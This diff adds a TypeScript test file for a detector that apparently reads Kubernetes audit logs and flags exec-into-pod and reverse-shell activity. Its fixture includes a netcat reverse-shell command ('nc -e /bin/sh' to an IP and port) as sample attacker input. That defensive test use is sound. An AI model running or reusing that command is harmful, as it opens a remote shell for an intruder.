@@ -1,0 +1,125 @@
+import { strict as assert } from 'node:assert';
+import { makeDetectAuditLog } from '../../../functions/detect-audit-log/handler.ts';
+import { type AuditEntryParts, auditEntry } from '../../../local/scenarios/audit-entry.ts';
+import type { Envelope } from '../../../shared/envelope.ts';
+import { Malformed, Transient } from '../../../shared/errors.ts';
+import { finding } from '../../../shared/model/finding.ts';
+import type { Bus, Log } from '../../../shared/ports.ts';
+import { NOW } from '../../fixtures/signals.ts';
+
+const EXEC: AuditEntryParts = {
+  verb: 'create',
+  resource: 'pods',
+  subresource: 'exec',
+  namespace: 'shop',
+  name: 'cart-0',
+  command: 'nc -e /bin/sh 203.0.113.9 4444',
+};
+
+const LOG_MATCH_INCIDENT = {
+  version: '1.2',
+  incident: {
+    incident_id: '0.abc',
+    state: 'open',
+    started_at: NOW / 1000,
+    ended_at: null,
+    policy_name: 'Exec into pods',
+    condition_name: 'Log match condition',
+    condition: { name: 'n', displayName: 'd', conditionMatchedLog: { filter: 'f' } },
+    metric: { type: '', displayName: '', labels: {} },
+    resource: { type: 'k8s_cluster', labels: { project_id: 'p1' } },
+    summary: 'Log match condition fired',
+    scoping_project_id: 'p1',
+  },
+};
+
+const envelope = (data: unknown): Envelope => ({
+  id: '7',
+  topic: 'audit-log',
+  attributes: {},
+  data,
+  publishedAt: '2026-03-02T10:16:00.000Z',
+});
+
+/** A handler whose output is kept. */
+const detector = (publish?: Bus['publish']) => {
+  const published: Array<{ topic: string; body: unknown }> = [];
+  const lines: string[] = [];
+  const say =
+    (level: string) =>
+    (what: string, message: string): void =>
+      void lines.push(`${level} ${what}: ${message}`);
+  const log: Log = { info: say('info'), warn: say('warn'), error: say('error'), count: say('count') };
+  const bus: Bus = {
+    publish:
+      publish ??
+      (async (topic, body) => {
+        published.push({ topic, body });
+        return String(published.length);
+      }),
+  };
+  return { published, lines, detect: makeDetectAuditLog({ bus, clock: { now: () => NOW }, log }) };
+};
+
+describe('detect-audit-log', () => {
+  it('publishes every finding of an entry, and tells of each arrow', async () => {
+    const { published, lines, detect } = detector();
+    await detect(envelope(auditEntry(EXEC)));
+    const rules = published.map(({ topic, body }) => [topic, finding.strict().parse(body).rule]);
+    assert.deepEqual(rules, [
+      ['findings', 'exec-into-pod'],
+      ['findings', 'exec-reverse-shell'],
+    ]);
+    assert.equal(lines.filter((line) => line.startsWith('info envelope -> signal')).length, 1);
+    assert.equal(lines.filter((line) => line.startsWith('info signal -> finding')).length, 2);
+  });
+
+  it('publishes the same findings when the entry is delivered again', async () => {
+    const { published, detect } = detector();
+    await detect(envelope(auditEntry(EXEC)));
+    await detect(envelope(auditEntry(EXEC)));
+    assert.deepEqual(published.slice(0, 2), published.slice(2));
+  });
+
+  it('publishes nothing for what no rule sees', async () => {
+    const { published, detect } = detector();
+    await detect(envelope(auditEntry({ verb: 'list', resource: 'pods', namespace: 'shop' })));
+    assert.deepEqual(published, []);
+  });
+
+  it('is not done before every finding is on the bus', async () => {
+    const { detect } = detector(async () => {
+      throw new Transient('the bus is away');
+    });
+    await assert.rejects(detect(envelope(auditEntry(EXEC))), Transient);
+  });
+
+  it('counts a log-match incident, which does not hold its log entry', async () => {
+    const { published, lines, detect } = detector();
+    await detect(envelope(LOG_MATCH_INCIDENT));
+    assert.deepEqual(published, []);
+    assert.deepEqual(lines, ['count log-match-not-read: log-match incidents are not read yet']);
+  });
+
+  const malformed: Array<[string, unknown, RegExp]> = [
+    ['what no source knows', { a: 1 }, /not one of/],
+    ['an entry of another log', { logName: 'projects/p1/logs/stdout', textPayload: 'x' }, /message 7 is of other-log/],
+    // It names no cluster: whoever publishes it here could mean any.
+    [
+      "a Kubernetes API server's own event",
+      { kind: 'Event', auditID: 'a', verb: 'create', requestURI: '/api/v1/namespaces/shop/pods' },
+      /message 7 is of kubernetes-audit, which is not read on this topic/,
+    ],
+    ['an alert of another detector', { rule: 'r', output: 'o', priority: 'Warning' }, /falco/],
+  ];
+  for (const [what, data, sentence] of malformed) {
+    it(`refuses ${what}`, async () => {
+      const { published, detect } = detector();
+      await assert.rejects(
+        detect(envelope(data)),
+        (thrown) => thrown instanceof Malformed && sentence.test(thrown.message),
+      );
+      assert.deepEqual(published, []);
+    });
+  }
+});
